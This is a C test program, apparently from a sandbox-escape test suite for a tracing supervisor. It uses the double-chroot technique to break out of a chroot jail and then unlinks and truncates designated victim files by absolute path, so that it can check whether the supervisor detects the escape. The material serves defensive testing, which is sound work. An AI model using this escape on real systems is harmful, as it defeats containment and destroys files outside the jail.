/* chroot-games: chroot() into a workspace directory, so that "/" in the
 * tracee means something else than in the supervisor, then break out with
 * the classic double chroot (chroot into a subdirectory while the cwd stays
 * above it, then walk up with ".."), and unlink/truncate the outside files
 * by absolute path. The supervisor must resolve paths against the tracee's
 * root (/proc/PID/root), which after the escape is the real "/" again. */
#include "../esc.h"

static void attack(const char *victim, const char *victim2, const char *when)
{
	esc_log("%s: unlink -> %s", when, unlink(victim) == 0 ? "ok" : strerror(errno));
	int fd = open(victim2, O_WRONLY | O_TRUNC);
	esc_log("%s: open(O_TRUNC) -> %s", when, fd >= 0 ? "ok" : strerror(errno));
}

int main(void)
{
	esc_start("chroot-games");
	char *victim = esc_out("victim");
	char *victim2 = esc_out("victim2");
	if (chdir(esc_env("ESC_WS")) < 0 || mkdir("jail", 0755) < 0 || mkdir("jail/inner", 0755) < 0)
		return 3;
	if (chroot("jail") < 0) {
		esc_log("chroot(jail): %s", strerror(errno));
		return esc_verdict_victim(victim);
	}
	if (chdir("/") < 0 || chroot("inner") < 0) {
		esc_log("chroot(inner): %s", strerror(errno));
		return esc_verdict_victim(victim);
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		esc_log("chroot(.): %s", strerror(errno));
	attack(victim, victim2, "after the escape");
	if (!esc_intact(victim2))
		return ESC_BREACH;
	return esc_verdict_victim(victim);
}
